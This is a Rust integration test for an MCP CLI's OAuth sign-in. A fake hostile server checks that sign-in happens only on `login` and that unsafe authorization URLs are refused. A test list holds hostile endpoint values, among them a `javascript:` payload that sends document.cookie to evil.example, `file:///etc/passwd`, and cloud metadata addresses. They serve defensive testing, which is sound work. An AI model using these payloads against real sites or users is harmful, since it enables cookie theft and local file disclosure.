//! Sign-in only where the user asked and only through allowed URLs, end
//! to end through the binary against a hostile loopback server that is
//! both the MCP server and its authorization server and counts what it
//! sees: `probe`, `tools` and `call` of a server that needs a sign-in say
//! so and name `mcp-cli login`, with nothing sent to the authorization
//! server; `login` hands the browser (`$BROWSER`, here a script that
//! writes its argument down) only an https or loopback-http page, and an
//! authorization server naming any other gets nothing, not even a
//! registration.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::sync::{Arc, Mutex};

use axum::extract::{Query, State};
use axum::http::{Method, StatusCode, Uri};
use axum::response::{IntoResponse, Json, Redirect, Response};
use serde_json::json;

use support::{Run, Tree};

const SERVER: &str = "hostile";

#[derive(Debug, Default)]
struct Seen {
    base: String,
    /// The authorization endpoint the metadata names (`{base}` filled in).
    authorization_endpoint: String,
    /// Every request but the MCP endpoint's and its resource metadata.
    authorization_server: Vec<String>,
}

type Shared = Arc<Mutex<Seen>>;

fn lock(s: &Shared) -> std::sync::MutexGuard<'_, Seen> {
    s.lock().unwrap_or_else(|e| e.into_inner())
}

async fn any(
    State(s): State<Shared>,
    method: Method,
    uri: Uri,
    Query(query): Query<std::collections::HashMap<String, String>>,
) -> Response {
    let mut seen = lock(&s);
    let base = seen.base.clone();
    let path = uri.path().to_owned();
    match (method.as_str(), path.as_str()) {
        ("POST", "/mcp") => {
            let www = format!(
                r#"Bearer resource_metadata="{base}/.well-known/oauth-protected-resource/mcp""#
            );
            return (StatusCode::UNAUTHORIZED, [("www-authenticate", www)]).into_response();
        }
        ("GET", "/mcp") => return StatusCode::METHOD_NOT_ALLOWED.into_response(),
        ("GET", "/.well-known/oauth-protected-resource/mcp") => {
            return Json(
                json!({"resource": format!("{base}/mcp"), "authorization_servers": [base]}),
            )
            .into_response();
        }
        _ => seen.authorization_server.push(format!("{method} {path}")),
    }
    match (method.as_str(), path.as_str()) {
        ("GET", "/.well-known/oauth-authorization-server") => Json(json!({
            "issuer": base,
            "authorization_endpoint": seen.authorization_endpoint.replace("{base}", &base),
            "token_endpoint": format!("{base}/token"),
            "registration_endpoint": format!("{base}/register"),
            "code_challenge_methods_supported": ["S256"]
        }))
        .into_response(),
        ("POST", "/register") => Json(json!({"client_id": "hostile-client"})).into_response(),
        ("GET", "/authorize") => {
            let redirect = query.get("redirect_uri").cloned().unwrap_or_default();
            let state = query.get("state").cloned().unwrap_or_default();
            Redirect::to(&format!("{redirect}?code=c0de&state={state}&iss={base}")).into_response()
        }
        ("POST", "/token") => Json(json!({
            "access_token": "hostile-access",
            "token_type": "Bearer",
            "expires_in": 3600
        }))
        .into_response(),
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

/// The hostile server on its own thread; its base url and what it saw.
fn serve(authorization_endpoint: &str) -> (String, Shared) {
    let shared: Shared = Arc::default();
    lock(&shared).authorization_endpoint = authorization_endpoint.to_owned();
    let state = shared.clone();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        runtime.block_on(async move {
            let app = axum::Router::new().fallback(any).with_state(state.clone());
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let base = format!("http://{}", listener.local_addr().unwrap());
            lock(&state).base = base.clone();
            tx.send(base).unwrap();
            axum::serve(listener, app).await.unwrap();
        });
    });
    let base = rx.recv().unwrap();
    (base, shared)
}

fn tree_with(base: &str) -> Tree {
    let tree = Tree::new("no-fixture");
    tree.write(
        "home/.claude.json",
        &serde_json::to_string_pretty(
            &json!({"mcpServers": {SERVER: {"type": "http", "url": format!("{base}/mcp")}}}),
        )
        .unwrap(),
    );
    tree
}

/// A `$BROWSER` that writes the url it is handed to `opened`, and with
/// `follow` also follows it as a browser would.
fn browser(tree: &Tree, follow: bool) -> (String, std::path::PathBuf) {
    let opened = tree.path("opened");
    let follow = if follow {
        "curl -s -L -o /dev/null \"$1\"\n"
    } else {
        ""
    };
    tree.write(
        "browser.sh",
        &format!(
            "#!/bin/sh\nprintf '%s\\n' \"$1\" >> '{}'\n{follow}",
            opened.display()
        ),
    );
    let script = tree.path("browser.sh");
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    (script.display().to_string(), opened)
}

fn run(tree: &Tree, args: &[&str], browser: &str) -> Run {
    tree.run_with(args, |command| {
        command.env("BROWSER", browser);
    })
}

#[test]
fn verbs_other_than_login_say_a_sign_in_is_needed_and_contact_no_authorization_server() {
    let (base, seen) = serve("{base}/authorize");
    let tree = tree_with(&base);
    let (script, opened) = browser(&tree, false);
    for args in [
        &["probe"][..],
        &["probe", SERVER],
        &["tools"],
        &["call", "mcp__hostile__whoami"],
    ] {
        let run = run(&tree, args, &script);
        let said = format!("{}{}", run.stdout, run.stderr);
        assert_ne!(run.code, 0, "{args:?}: {said}");
        assert!(
            said.contains("needs a sign-in; run `mcp-cli login hostile`"),
            "{args:?}: {said}"
        );
        assert_eq!(
            lock(&seen).authorization_server,
            Vec::<String>::new(),
            "{args:?}: {said}"
        );
        assert!(!opened.exists(), "{args:?}: a browser was opened");
    }
    // The same server signs in when the user asks.
    let (script, opened) = browser(&tree, true);
    let run = run(&tree, &["login", SERVER], &script);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(std::fs::read_to_string(&opened).unwrap().lines().count(), 1);
    assert_eq!(
        lock(&seen).authorization_server,
        [
            "GET /.well-known/oauth-authorization-server",
            "POST /register",
            "GET /authorize",
            "POST /token"
        ]
    );
}

#[test]
fn login_hands_the_browser_only_an_allowed_page() {
    for endpoint in [
        "javascript:alert(document.cookie)//",
        "JAVASCRIPT:fetch('//evil.example/'+document.cookie)",
        "file:///etc/passwd",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "http://192.0.2.1/authorize",
        "http://as.example.com/authorize",
        "https://169.254.169.254/authorize",
        "https://[fe80::1]/authorize",
    ] {
        let (base, seen) = serve(endpoint);
        let tree = tree_with(&base);
        let (script, opened) = browser(&tree, false);
        let run = run(&tree, &["login", SERVER], &script);
        let said = format!("{}{}", run.stdout, run.stderr);
        assert_ne!(run.code, 0, "{endpoint}: {said}");
        assert!(
            said.contains("refused the authorization endpoint"),
            "{endpoint}: {said}"
        );
        assert!(!opened.exists(), "{endpoint}: the browser was handed it");
        assert_eq!(
            lock(&seen).authorization_server,
            ["GET /.well-known/oauth-authorization-server"],
            "{endpoint}: nothing but the metadata request"
        );
    }
}
